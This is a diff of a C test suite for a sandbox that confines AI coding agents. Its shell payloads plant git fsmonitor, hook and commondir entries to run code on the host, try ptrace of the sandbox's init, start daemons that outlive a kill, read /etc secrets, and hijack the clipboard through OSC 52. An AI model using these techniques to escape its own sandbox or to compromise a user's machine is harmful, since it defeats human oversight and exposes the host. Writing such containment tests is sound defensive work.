+	char *dh2 = snap_diff(h3, h4, te.home, home_allowed);
+	cr_expect_str_empty(dh2, "the second session changed the host home:\n%s", dh2);
+	snap_free(h0);
+	snap_free(h1);
+	snap_free(h2);
+	snap_free(h3);
+	snap_free(h4);
+	snap_free(g0);
+	snap_free(g1);
+}
+
+Test(attacks, host_diff_claude)
+{
+	host_diff("claude", ".claude/CLAUDE.md");
+}
+
+Test(attacks, host_diff_codex)
+{
+	host_diff("codex", ".codex/AGENTS.md");
+}
+
+/* ---- 2. git ---------------------------------------------------------------- */
+
+/*
+ * The attacks named in the project's .attacks file, in the project's git
+ * directories (found with git, and at $PWD/.git).  Each plant makes a git run
+ * later on the host touch $MARKS/<class>.  Run unsandboxed only with
+ * ATTACK_CONTROL=1, in the test's own control copies.
+ */
+static const char GIT_PAYLOAD[] =
+	"if ! sandboxed; then [ \"${ATTACK_CONTROL:-}\" = 1 ] || exec \"$STOCK\" \"$@\"\n"
+	"  MARKS=$ROOT/ctl-marks; else MARKS=$ROOT/marks; fi\n"
+	": >\"$OUT\"\n"
+	"export GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a\n"
+	"fsm() { printf 'touch %s/%s #' \"$MARKS\" \"$1\"; }\n"
+	"try() { local what=$1; shift; if \"$@\" 2>>\"$OUT.err\"; then rec \"$what: ok\"; else rec \"$what: failed\"; fi; }\n"
+	"P=$PWD\n"
+	"ATTACKS=$(cat .attacks 2>/dev/null)\n"
+	"G=$(git rev-parse --absolute-git-dir 2>/dev/null)\n"
+	"CD=$(git rev-parse --path-format=absolute --git-common-dir 2>/dev/null)\n"
+	"rec \"gitdir $G common $CD\"\n"
+	"hook() { mkdir -p \"$1\" && printf '#!/bin/sh\\ntouch %s/%s\\n' \"$MARKS\" \"$2\" >\"$1/pre-commit\" &&\n"
+	"  chmod +x \"$1/pre-commit\"; }\n"
+	"for a in $ATTACKS; do case $a in\n"
+	"config) try config git config -f \"$CD/config\" --replace-all core.fsmonitor \"$(fsm config)\"\n"
+	"  try config-direct sh -c 'printf \"[core]\\n\\tfsmonitor = %s\\n\" \"$1\" >>\"$2\"' sh \"$(fsm config)\" \"$P/.git/config\" ;;\n"
+	"hookspath) hook \"$P/.evil-hooks\" hookspath; try hookspath git config -f \"$CD/config\" --replace-all core.hooksPath \"$P/.evil-hooks\" ;;\n"
+	"hooks) try hooks hook \"$CD/hooks\" hook ;;\n"
+	"commondir) cp -r \"$CD\" \"$P/.evil-common\" && git config -f \"$P/.evil-common/config\" --replace-all core.fsmonitor \"$(fsm commondir)\"\n"
+	"  try commondir sh -c 'printf \"%s\\n\" \"$1\" >\"$2\"' sh \"$P/.evil-common\" \"$G/commondir\" ;;\n"
+	"worktree) for w in \"$CD\"/worktrees/*/; do [ -d \"$w\" ] || continue\n"
+	"  rm -rf \"$P/.evil-wt\"; cp -r \"$CD\" \"$P/.evil-wt\" && git config -f \"$P/.evil-wt/config\" --replace-all core.fsmonitor \"$(fsm worktree)\"\n"
+	"  try worktree-commondir sh -c 'printf \"%s\\n\" \"$1\" >\"$2\"' sh \"$P/.evil-wt\" \"$w/commondir\"; done ;;\n"
+	"modules) for m in \"$CD\"/modules/*/; do [ -d \"$m\" ] || continue\n"
+	"  try module git config -f \"$m/config\" --replace-all core.fsmonitor \"$(fsm module)\"; done ;;\n"
+	"skipwt) try skip-worktree git update-index --skip-worktree tracked.txt\n"
+	"  try skip-edit sh -c 'printf \"evil %s\\n\" \"$1\" >>tracked.txt' sh \"$M\" ;;\n"
+	"init) try init git init -q && try init-config git config core.fsmonitor \"$(fsm init)\"\n"
+	"  try init-direct sh -c 'mkdir -p .git/objects .git/refs && echo \"ref: refs/heads/main\" >.git/HEAD &&\n"
+	"    printf \"[core]\\n\\tfsmonitor = %s\\n\" \"$1\" >>.git/config' sh \"$(fsm init)\" ;;\n"
+	"esac; done\n"
+	"rec \"pwd $P\"\n"
+	"if [ \"${ATTACK_CONTROL:-}\" = 1 ]; then rec DONE; exit 0; fi\n"
+	"park\n";
+
+/* A repository at dir: tracked.txt in one commit. */
+static void
+git_repo(const char *dir)
+{
+	char *cmd = fmt("mkdir -p '%s' && cd '%s' && git init -q -b main && echo hello > tracked.txt && "
+			"git add tracked.txt && git -c user.name=t -c user.email=t@t commit -qm one", dir, dir);
+	sh_ok("/", cmd);
+	free(cmd);
+}
+
+/* The projects of the git attacks under base: what each one attacks. */
+static void
+git_projects(const char *base)
+{
+	char *d = fmt("%s/g1", base), *cmd;
+
+	/* g1: config, a linked worktree's admin dir, a submodule, skip-worktree */
+	git_repo(d);
+	char *sub = fmt("%s/subsrc", base);
+	git_repo(sub);
+	cmd = fmt("git worktree add -q ../g1-wt -b side && "
+		  "git -c protocol.file.allow=always submodule -q add '%s' x && "
+		  "git -c user.name=t -c user.email=t@t commit -qm sub && "
+		  "printf 'config worktree modules skipwt\\n' > .attacks", sub);
+	sh_ok(d, cmd);
+	free(cmd);
+	free(d);
+	free(sub);
+	d = fmt("%s/g2", base);
+	git_repo(d);
+	sh_ok(d, "printf 'hooks commondir\\n' > .attacks");
+	free(d);
+	d = fmt("%s/g3", base);
+	git_repo(d);
+	sh_ok(d, "printf 'hookspath\\n' > .attacks");
+	free(d);
+	d = fmt("%s/n", base);
+	cmd = fmt("mkdir -p '%s' && printf 'init\\n' > '%s/.attacks'", d, d);
+	sh_ok("/", cmd);
+	free(cmd);
+	free(d);
+	/* the monorepo: the project is a sub-directory of a repository */
+	d = fmt("%s/mono", base);
+	git_repo(d);
+	sh_ok(d, "mkdir sub && echo x > sub/file && printf 'init\\n' > sub/.attacks && git add sub && "
+		 "git -c user.name=t -c user.email=t@t commit -qm sub");
+	free(d);
+}
+
+/* What the user runs on the host in dir afterwards; commit only with commit. */
+static void
+host_git(const char *dir, bool commit)
+{
+	struct run r;
+	const char *st[] = { "git", "status", NULL }, *lg[] = { "git", "log", "-1", NULL };
+	const char *df[] = { "git", "diff", NULL };
+	const char *ci[] = { "git", "commit", "-q", "--allow-empty", "-m", "host", NULL };
+
+	run_in(&r, dir, st);
+	run_free(&r);
+	run_in(&r, dir, lg);
+	run_free(&r);
+	run_in(&r, dir, df);
+	run_free(&r);
+	if (commit) {
+		run_in(&r, dir, ci);
+		run_free(&r);
+	}
+}
+
+static char *
+ls_dir(const char *dir)
+{
+	DIR *d = opendir(dir);
+	struct dirent *de;
+	char *out = strdup("");
+
+	while (d != NULL && (de = readdir(d)) != NULL) {
+		if (de->d_name[0] == '.')
+			continue;
+		char *n = fmt("%s%s ", out, de->d_name);
+		free(out);
+		out = n;
+	}
+	if (d != NULL)
+		closedir(d);
+	return out;
+}
+
+/* Whether `git status --porcelain` in dir lists tracked.txt. */
+static bool
+status_shows_edit(const char *dir)
+{
+	struct run r;
+	const char *st[] = { "git", "status", "--porcelain", NULL };
+
+	run_in(&r, dir, st);
+	bool yes = strstr(r.out, "tracked.txt") != NULL;
+	run_free(&r);
+	return yes;
+}
+
+static void
+host_git_all(const char *base, const char *extra)
+{
+	static const char *const dirs[] = { "g1", "g1-wt", "g1/x", "g2", "g3", "n", "mono/sub", "mono" };
+	for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
+		char *d = fmt("%s/%s", base, dirs[i]);
+		host_git(d, strcmp(dirs[i], "g2") == 0 || strcmp(dirs[i], "g3") == 0);
+		free(d);
+	}
+	if (extra != NULL)
+		host_git(extra, false);
+}
+
+Test(attacks, git_plants_never_run_on_the_host)
+{
+	char *base = fmt("%s/gp", te.root), *ctl = fmt("%s/gc", te.root);
+	char *marks = fmt("%s/marks", te.root), *ctl_marks = fmt("%s/ctl-marks", te.root);
+	write_file(fmt("%s/.gitconfig", te.home), "[user]\n\tname = t\n\temail = t@example.com\n", 0644);
+	git_projects(base);
+	git_projects(ctl);
+	mkdir(marks, 0755);
+	mkdir(ctl_marks, 0755);
+	install_payload("claude", GIT_PAYLOAD, false); /* its own guard */
+
+	/* Control: the same plants made from outside, in copies, do run. */
+	static const char *const names[] = { "g1", "g2", "g3", "n", "mono/sub" };
+	for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
+		char *d = fmt("%s/%s", ctl, names[i]), *payload = fmt("%s/claude", bin);
+		const char *argv[] = { "env", "ATTACK_CONTROL=1", payload, NULL };
+		struct run r;
+		run_in(&r, d, argv);
+		cr_assert_eq(r.code, 0, "control payload in %s: %s", d, r.err);
+		run_free(&r);
+		free(d);
+		free(payload);
+	}
+	char *g1ctl = fmt("%s/g1", ctl);
+	cr_expect(!status_shows_edit(g1ctl), "control: skip-worktree does not hide the edit");
+	host_git_all(ctl, NULL);
+	char *got = ls_dir(ctl_marks);
+	static const char *const classes[] = { "config", "worktree", "module", "hook", "commondir",
+					       "hookspath", "init" };
+	for (size_t i = 0; i < sizeof classes / sizeof classes[0]; i++) {
+		char *m = fmt("%s/%s", ctl_marks, classes[i]);
+		cr_expect(exists(m), "control: the %s plant did not run on the host (ran: %s)", classes[i], got);
+		free(m);
+	}
+
+	/* The attack: the same from inside sandboxed writable sessions. */
+	long ids[5];
+	char *dirs[5];
+	for (size_t i = 0; i < 5; i++) {
+		char *name = fmt("p%zu", i);
+		dirs[i] = new_project(name, fmt("%s/%s", base, names[i]));
+		ids[i] = run_new(&te, name, "claude", "--sandbox", "--fs", "rw", NULL);
+		free(name);
+	}
+	char *wheres[5];
+	for (size_t i = 0; i < 5; i++) {
+		char *out = results_in(dirs[i], "claude", ids[i], &wheres[i]);
+		cr_log_info("%s:\n%s", names[i], out);
+		free(out);
+	}
+	for (size_t i = 0; i < 5; i++)
+		kill_session(ids[i]);
+	char *marker = fmt("hqt-attack-%s", tok);
+	cr_expect(wait_for(none_marked, marker, 5000), "sessions outlived their kill");
+	/* Where the session worked on g1 (its own worktree, maybe), too. */
+	char *g1work = strndup(wheres[0], (size_t)(strrchr(wheres[0], '/') - wheres[0]));
+	host_git_all(base, strcmp(g1work, dirs[0]) != 0 ? g1work : NULL);
+	char *ran = ls_dir(marks);
+	cr_expect_str_empty(ran, "plants made inside ran on the host: %s", ran);
+
+	/* skip-worktree: an edit that landed is still seen by the host's git */
+	char *tracked = fmt("%s/tracked.txt", g1work), *text = slurp(tracked);
+	char *plant = fmt("PLANT-%s", tok);
+	if (text != NULL && strstr(text, plant) != NULL)
+		cr_expect(status_shows_edit(g1work), "an edit from inside is hidden from git status");
+	/* no repository was made where there was none */
+	char *n = fmt("%s/n/.git", base);
+	struct stat st;
+	if (lstat(n, &st) == 0) {
+		char *l = ls_dir(n);
+		cr_expect(S_ISDIR(st.st_mode) && strcmp(l, "") == 0, "a .git was left in n: %s", l);
+		free(l);
+	}
+	char *mono = fmt("%s/mono/sub", base);
+	struct run r;
+	const char *top[] = { "git", "rev-parse", "--show-toplevel", NULL };
+	run_in(&r, mono, top);
+	char *want = fmt("%s/mono\n", resolved(base));
+	cr_expect_str_eq(r.out, want, "the monorepo's sub-directory became its own repository");
+	run_free(&r);
+	free(want);
+	free(mono);
+	free(n);
+	free(text);
+	free(tracked);
+	free(plant);
+	free(ran);
+	free(marker);
+	free(g1work);
+	free(got);
+	free(g1ctl);
+}
+
+/* ---- 3. ptrace of the sandbox's init, and outliving the kill ---------------- */
+
+static const char PTRACE_PAYLOAD[] =
+	": >\"$OUT\"\n"
+	"exec \"$BIN/hqt-probe\" tee \"$OUT\" ptrace-init \"$HOSTNS\" vm-writev \"$HOSTNS\" "
+	"pidfd-getfd \"$HOSTNS\" daemon 1000 \"hqt-attack-$TOK\" sleep 1000 \"hqt-attack-$TOK\"\n";
+
+Test(attacks, ptrace_and_outliving)
+{
+	char *proj = new_project("p", fmt("%s/proj", te.root));
+	char *marker = fmt("hqt-attack-%s", tok);
+	install_payload("claude", PTRACE_PAYLOAD, true);
+	char *out = fmt("%s/attack-claude.out", proj);
+
+	long id = run_new(&te, "p", "claude", "--sandbox", "--fs", "rw", NULL);
+	char *started = fmt("sleep 1000 %s: ok started", marker);
+	long long end = now_ms() + 5000;
+	char *text = NULL;
+	for (;;) {
+		free(text);
+		text = slurp(out);
+		if (text != NULL && strstr(text, started) != NULL)
+			break;
+		cr_assert(now_ms() < end, "the probe never got to sleep:\n%s", text ? text : "(none)");
+		sleep_ms(50);
+	}
+	char *k = fmt("ptrace-init %s: ", hostns), *v = line_after(text, k);
+	cr_assert(v != NULL && strncmp(v, "SKIP", 4) != 0, "ptrace not tried: %s", v);
+	cr_expect_str_eq(v, "EPERM EPERM", "PTRACE_ATTACH, PTRACE_SEIZE of bwrap's init: %s", v);
+	free(k);
+	free(v);
+	k = fmt("vm-writev %s: ", hostns);
+	v = line_after(text, k);
+	cr_expect(v != NULL && v[0] == 'E', "process_vm_writev to init: %s", v);
+	free(k);
+	free(v);
+	k = fmt("pidfd-getfd %s: ", hostns);
+	v = line_after(text, k);
+	cr_expect(v != NULL && (v[0] == 'E' || strncmp(v, "pidfd_open E", 12) == 0),
+		  "pidfd_getfd of init's descriptor: %s", v);
+	free(k);
+	free(v);
+	k = fmt("daemon 1000 %s: ", marker);
+	v = line_after(text, k);
+	cr_expect(v != NULL && strcmp(v, "ok started") == 0, "daemon: %s", v);
+	/* control: the probe and its daemon are alive and seen */
+	int before = count_marked(marker);
+	cr_assert_geq(before, 2, "control: %d marked processes before the kill", before);
+
+	kill_session(id);
+	cr_expect(wait_for(none_marked, marker, 5000), "%d process(es) of the sandbox outlived hqt kill",
+		  count_marked(marker));
+	free(k);
+	free(v);
+	free(text);
+	free(started);
+	free(out);
+	free(marker);
+	free(proj);
+}
+
+/* ---- 4. /etc by allowlist -------------------------------------------------- */
+
+static const char ETC_PAYLOAD[] =
+	": >\"$OUT\"\n"
+	"for f in /etc/a/b/c/secret /etc/zz-secret /opt/hqt-opt-$TOK/secret; do\n"
+	"  c=$(cat \"$f\" 2>/dev/null) && rec \"read $f: $c\"; done\n"
+	"n=0; for f in /etc/zz-pad-*; do cat \"$f\" >/dev/null 2>&1 && n=$((n+1)); done; rec \"pads $n\"\n"
+	"[ -e /opt/hqt-opt-$TOK ] && rec \"visible /opt/hqt-opt-$TOK\"\n"
+	"grep -rlsF \"$S\" /etc /opt 2>/dev/null | while IFS= read -r f; do rec \"leak $f\"; done\n"
+	"park\n";
+
+/* In the child, in its own mount namespace: /etc and /opt overlaid on a
+ * tmpfs, the secrets put there; then `hqt new` starts the tmux server (and
+ * so every session) in this namespace.  Never returns. */
+static void
+etc_child(const char *ov, const char *out)
+{
+	if (unshare(CLONE_NEWNS) != 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
+	    mount("tmpfs", ov, "tmpfs", 0, "mode=0755") != 0)
+		_exit(10);
+	static const char *const dirs[] = { "etc-up", "etc-work", "opt-up", "opt-work" };
+	for (size_t i = 0; i < 4; i++) {
+		char *d = fmt("%s/%s", ov, dirs[i]);
+		if (mkdir(d, 0755) != 0)
+			_exit(11);
+		free(d);
+	}
+	char *o = fmt("lowerdir=/etc,upperdir=%s/etc-up,workdir=%s/etc-work", ov, ov);
+	if (mount("overlay", "/etc", "overlay", 0, o) != 0)
+		_exit(12);
+	free(o);
+	struct stat st;
+	if (stat("/opt", &st) == 0) {
+		o = fmt("lowerdir=/opt,upperdir=%s/opt-up,workdir=%s/opt-work", ov, ov);
+		if (mount("overlay", "/opt", "overlay", 0, o) != 0)
+			_exit(13);
+		free(o);
+	} else if (mkdir("/opt", 0755) != 0 || mount("tmpfs", "/opt", "tmpfs", 0, "mode=0755") != 0)
+		_exit(13); /* not reached on a normal host: /opt exists */
+	char *S = fmt("SECRET-%s", tok);
+	if (mkdir("/etc/a", 0700) || mkdir("/etc/a/b", 0700) || mkdir("/etc/a/b/c", 0700))
+		_exit(14);
+	char *t = fmt("%s-deep\n", S);
+	write_file("/etc/a/b/c/secret", t, 0600);
+	free(t);
+	for (int i = 0; i < 300; i++) {
+		char *p = fmt("/etc/zz-pad-%03d", i), *x = fmt("%s-pad%d\n", S, i);
+		write_file(p, x, 0600);
+		free(p);
+		free(x);
+	}
+	t = fmt("%s-zz\n", S);
+	write_file("/etc/zz-secret", t, 0600);
+	free(t);
+	char *od = fmt("/opt/hqt-opt-%s/secret", tok);
+	t = fmt("%s-opt\n", S);
+	write_file(od, t, 0644);
+	static const char *const args[] = { "new", "p", "claude", "--sandbox", "--fs", "rw", NULL };
+	pid_t pid = spawn_hqt(&te, args, NULL, out, NULL);
+	int status;
+	while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
+		;
+	_exit(WIFEXITED(status) ? WEXITSTATUS(status) : 99);
+}
+
+Test(attacks, etc_allowlist)
+{
+	cr_assert_eq(geteuid(), 0, "needs root for a private mount namespace");
+	char *proj = new_project("p", fmt("%s/proj", te.root));
+	char *proj2 = new_project("c", fmt("%s/ctl", te.root));
+	char *ov = fmt("%s/ov", te.root), *newout = fmt("%s/new.out", te.root);
+	mkdir(ov, 0755);
+	install_payload("claude", ETC_PAYLOAD, false);
+	struct run r;
+	run_tmux(&r, &te, "has-session", NULL);
+	cr_assert_neq(r.code, 0, "a tmux server runs already: it would not be in the namespace");
+	run_free(&r);
+
+	pid_t pid = fork();
+	cr_assert_neq(pid, -1);
+	if (pid == 0)
+		etc_child(ov, newout);
+	int status;
+	waitpid(pid, &status, 0);
+	char *printed = slurp(newout);
+	cr_assert(WIFEXITED(status) && WEXITSTATUS(status) == 0, "hqt new in the namespace: status %d: %s",
+		  status, printed);
+	long id = strtol(printed, NULL, 10);
+	char *out = results_in(proj, "claude", id, NULL);
+
+	/* Control: an unsandboxed session of the same server (the namespace)
+	 * reads them all. */
+	long c = run_new(&te, "c", "claude", NULL);
+	char *cout = results_in(proj2, "claude", c, NULL);
+	cr_assert(strstr(cout, "read /etc/a/b/c/secret: SECRET-") != NULL &&
+		  strstr(cout, "read /etc/zz-secret: SECRET-") != NULL &&
+		  strstr(cout, "pads 300") != NULL && strstr(cout, "visible /opt/") != NULL,
+		  "control: the secrets are not readable outside the sandbox:\n%s", cout);
+
+	char *reads = lines_with(out, "read "), *leaks = lines_with(out, "leak ");
+	cr_expect_str_empty(reads, "root-only files of /etc read inside:\n%s", reads);
+	cr_expect_str_empty(leaks, "secrets in /etc or /opt visible inside:\n%s", leaks);
+	cr_expect(strstr(out, "pads 0\n") != NULL, "root-only /etc files past 256: %s",
+		  line_after(out, "pads "));
+	cr_expect(strstr(out, "visible /opt/") == NULL, "/opt is visible inside");
+	free(reads);
+	free(leaks);
+	free(out);
+	free(cout);
+	free(printed);
+	free(newout);
+	free(ov);
+	free(proj);
+	free(proj2);
+}
+
+/* ---- 5. the terminal: clipboard and passthrough ---------------------------- */
+
+static const char TERM_PAYLOAD[] =
+	": >\"$OUT\"\n"
+	"stty raw -echo 2>/dev/null\n"
+	"printf '\\033]52;c;?\\a'\n"
+	"IFS= read -r -t 1 -d $'\\a' reply\n"
+	"rec \"reply-hex $(printf %s \"$reply\" | od -An -tx1 | tr -d ' \\n')\"\n"
+	"rec \"reply $(printf %s \"${reply##*;}\" | base64 -d 2>/dev/null | tr -cd '[:alnum:]-')\"\n"
+	"printf '\\033]52;c;%s\\a' \"$(printf 'evil-set-%s' \"$TOK\" | base64 -w0)\"\n"
+	"printf '\\033Ptmux;\\033\\033]52;c;%s\\a\\033\\\\' \"$(printf 'evil-pass-%s' \"$TOK\" | base64 -w0)\"\n"
+	"sleep 0.3\n"
+	"stty sane 2>/dev/null\n"
+	"park\n";
+
+static char *
+buffers(void)
+{
+	struct run r;
+	run_tmux(&r, &te, "list-buffers", "-F", "#{buffer_name}=#{buffer_sample}", NULL);
+	char *o = strdup(r.out);
+	run_free(&r);
+	return o;
+}
+
+static char *
+top_buffer(void)
+{
+	struct run r;
+	run_tmux(&r, &te, "show-buffer", NULL);
+	char *o = strdup(r.out);
+	run_free(&r);
+	return o;
+}
+
+Test(attacks, terminal_no_clipboard_or_passthrough)
+{
+	char *proj = new_project("p", fmt("%s/proj", te.root));
+	char *proj2 = new_project("c", fmt("%s/ctl", te.root));
+	char *secret = fmt("SECRET-%s-clip", tok), *evil = fmt("evil-set-%s", tok);
+	struct run r;
+
+	install_payload("claude", TERM_PAYLOAD, false);
+	run_tmux(&r, &te, "new-session", "-d", "-s", "user", NULL);
+	cr_assert_eq(r.code, 0, "%s", r.err);
+	run_free(&r);
+	run_tmux(&r, &te, "set", "-s", "set-clipboard", "on", NULL);
+	cr_assert_eq(r.code, 0, "%s", r.err);
+	run_free(&r);
+	run_tmux(&r, &te, "set", "-g", "allow-passthrough", "on", NULL);
+	cr_assert_eq(r.code, 0, "%s", r.err);
+	run_free(&r);
+	run_tmux(&r, &te, "set-buffer", secret, NULL);
+	run_free(&r);
+	char *top = top_buffer();
+	cr_assert_str_eq(top, secret, "control: the secret is the top buffer");
+	free(top);
+
+	const char *const args[] = { "new", "p", "claude", "--sandbox", "--fs", "rw", NULL };
+	run_hqtv(&r, &te, args);
+	if (r.code != 0) {
+		/* refusing is an answer too, if it says why */
+		cr_expect(strstr(r.err, "clipboard") != NULL || strstr(r.err, "passthrough") != NULL,
+			  "refused without naming the tmux option: %s", r.err);
+		cr_log_info("refused: %s", r.err);
+		run_free(&r);
+	} else {
+		long id = strtol(r.out, NULL, 10);
+		run_free(&r);
+		char *out = results_in(proj, "claude", id, NULL);
+		cr_expect(strstr(out, secret) == NULL, "the pane read the paste buffer:\n%s", out);
+		char *b = buffers();
+		cr_expect(strstr(b, "evil-") == NULL, "the pane set a paste buffer:\n%s", b);
+		free(b);
+		top = top_buffer();
+		cr_expect_str_eq(top, secret, "the top buffer changed");
+		free(top);
+		kill_session(id);
+		free(out);
+	}
+
+	/* Control: unsandboxed, the same payload reads and sets (this tmux
+	 * answers OSC 52 with set-clipboard on).  The secret on top again. */
+	run_tmux(&r, &te, "set-buffer", secret, NULL);
+	run_free(&r);
+	long c = run_new(&te, "c", "claude", NULL);
+	char *cout = results_in(proj2, "claude", c, NULL);
+	char *want = fmt("reply %s\n", secret);
+	cr_expect(strstr(cout, want) != NULL, "control: no clipboard in the reply:\n%s", cout);
+	char *b = buffers();
+	cr_expect(strstr(b, evil) != NULL, "control: OSC 52 set no buffer:\n%s", b);
+	free(b);
+	free(want);
+	free(cout);
+	free(secret);
+	free(evil);
+	free(proj);
+	free(proj2);
+}
+
+/* ---- 6. the codex capture ---------------------------------------------------- */
+
+static const char CODEX_PAYLOAD[] =
+	": >\"$OUT\"\n"
+	"forge() { # home id cwd\n"
+	"  local d=$1/sessions/$(date +%Y/%m/%d) ts=$(date -u +%Y-%m-%dT%H:%M:%S.000Z)\n"
+	"  mkdir -p \"$d\" 2>/dev/null && { printf '{\"timestamp\":\"%s\",\"type\":\"session_meta\",\"payload\":"
+	"{\"id\":\"%s\",\"timestamp\":\"%s\",\"cwd\":\"%s\",\"originator\":\"codex_cli_rs\","
+	"\"cli_version\":\"0.0.0\",\"source\":\"cli\"}}\\n' \"$ts\" \"$2\" \"$ts\" \"$3\" "
+	">\"$d/rollout-$(date +%Y-%m-%dT%H-%M-%S)-$2.jsonl\"; } 2>/dev/null && rec \"forged $d\"\n"
+	"}\n"
+	"for i in $(seq 80); do\n"
+	"  for h in \"${CODEX_HOME:-$HOME/.codex}\" \"$HOSTHOME/.codex\"; do\n"
+	"    forge \"$h\" @FORGED_OTHER@ @OTHER@; forge \"$h\" @FORGED_OWN@ \"$PWD\"; done\n"
+	"  [ $i = 1 ] && rec DONE\n"
+	"  sleep 0.1\n"
+	"done\n"
+	"exec -a \"hqt-attack-$TOK\" sleep 1000\n";
+
+static char *grep_hits;
+static const char *grep_needle;
+
+static int
+grep_one(const char *path, const struct stat *st, int flag, struct FTW *ftw)
+{
+	(void)st; (void)ftw;
+	if (flag != FTW_F)
+		return 0;
+	char *c = slurp(path);
+	if (c != NULL && strstr(c, grep_needle) != NULL) {
+		char *n = fmt("%s%s\n", grep_hits, path);
+		free(grep_hits);
+		grep_hits = n;
+	}
+	free(c);
+	return 0;
+}
+
+static char *
+grep_tree(const char *dir, const char *needle)
+{
+	grep_hits = strdup("");
+	grep_needle = needle;
+	nftw(dir, grep_one, 32, FTW_PHYS);
+	return grep_hits;
+}
+
+Test(attacks, codex_capture_not_fed_from_a_sandbox)
+{
+	char *a = new_project("a", fmt("%s/a", te.root));
+	char *b = new_project("b", fmt("%s/b", te.root));
+	static const char forged_other[] = "0199bbbb-0000-7000-8000-00000000f0e1";
+	static const char forged_own[] = "0199bbbb-0000-7000-8000-00000000f0e2";
+	char *body = fmt("%s", CODEX_PAYLOAD);
+	const char *pairs[] = { "FORGED_OTHER", forged_other, "FORGED_OWN", forged_own, "OTHER", b, NULL };
+	char *payload = subst(body, pairs);
+	install_payload("codex", payload, true);
+	char *codex_home = fmt("%s/.codex", te.home);
+	mkdir(codex_home, 0755);
+
+	long boxed = run_new(&te, "a", "codex", "--sandbox", "--fs", "rw", NULL);
+	char *out = results_in(a, "codex", boxed, NULL);
+	/* control: the payload forges (somewhere it may write) */
+	cr_expect(strstr(out, "forged ") != NULL, "control: the payload forged nothing:\n%s", out);
+
+	/* The user's unsandboxed codex in b, while the forger goes on: the stock
+	 * fake (the payload's guard hands over), whose first turn writes its own
+	 * rollout. */
+	long plain = run_new(&te, "b", "codex", NULL);
+	sleep_ms(700);
+	char *ctl = fmt("%s/.fake/control", b);
+	write_file(ctl, "working\n", 0644);
+	char *pn = num(plain);
+	const char *id = NULL;
+	json_t *s = NULL;
+	long long end = now_ms() + 8000;
+	while (now_ms() < end) {
+		json_decref(s);
+		s = run_show(&te, pn);
+		id = json_string_value(json_object_get(s, "harness_session_id"));
+		if (id != NULL && id[0] != '\0')
+			break;
+		id = NULL;
+		sleep_ms(200);
+	}
+	cr_assert_not_null(id, "control: the unsandboxed codex's own session was never captured");
+	cr_expect_str_neq(id, forged_other, "a rollout forged in a sandbox was captured for another project");
+	char *genuine = grep_tree(codex_home, id);
+	cr_expect(strstr(genuine, "rollout-") != NULL, "captured %s, which is in no host rollout", id);
+	char *f1 = grep_tree(codex_home, forged_other), *f2 = grep_tree(codex_home, forged_own);
+	cr_expect_str_empty(f1, "forged rollouts in the host's ~/.codex:\n%s", f1);
+	cr_expect_str_empty(f2, "forged rollouts (its own project) in the host's ~/.codex:\n%s", f2);
+	json_decref(s);
+	free(genuine);
+	free(f1);
+	free(f2);
+	free(pn);
+	free(ctl);
+	free(out);
+	free(codex_home);
+	free(payload);
+	free(body);
+	free(a);
+	free(b);
+}
